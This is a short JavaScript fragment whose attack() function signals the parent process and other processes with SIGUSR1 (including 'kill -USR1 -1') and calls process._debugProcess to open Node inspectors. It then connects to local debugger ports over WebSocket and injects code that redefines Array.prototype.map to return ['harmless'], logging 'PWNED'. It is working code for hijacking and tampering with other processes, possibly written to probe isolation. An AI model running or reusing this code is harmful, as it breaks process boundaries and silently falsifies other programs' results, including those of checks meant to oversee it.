/** What an inspector in this process says to `expression`; undefined where there is none. */
async function inspected(port, expression) {
  let list;
  try {
    list = await (await fetch(`http://127.0.0.1:${port}/json/list`, { signal: AbortSignal.timeout(1500) })).json();
  } catch (error) {
    note(`${port}: ${error.cause?.code ?? error.message}`);
    return;
  }
  for (const { webSocketDebuggerUrl } of list) {
    const socket = new WebSocket(webSocketDebuggerUrl);
    await new Promise((resolve) => socket.addEventListener("open", resolve, { once: true }));
    const said = new Promise((resolve) => socket.addEventListener("message", ({ data }) => resolve(data), { once: true }));
    socket.send(JSON.stringify({ id: 1, method: "Runtime.evaluate", params: { expression, returnByValue: true } }));
    note(`PWNED, an inspector at ${port} evaluates: ${String(await said).slice(0, 200)}`);
    socket.close();
  }
}
async function attack() {
  const others = pids().filter((pid) => pid !== process.pid);
  for (const pid of new Set([process.ppid, ...others])) {
    attempt(`signal ${pid}`, () => process.kill(pid, "SIGUSR1"));
    attempt(`debug ${pid}`, () => process._debugProcess(pid));
  }
  attempt("shell", () => sh("kill -USR1 $PPID; kill -USR1 -1"));
  await sleep(700);
  for (const port of [9229, 9230, 5858]) await inspected(port, "Array.prototype.map = function () { return ['harmless']; }; process.pid");
}
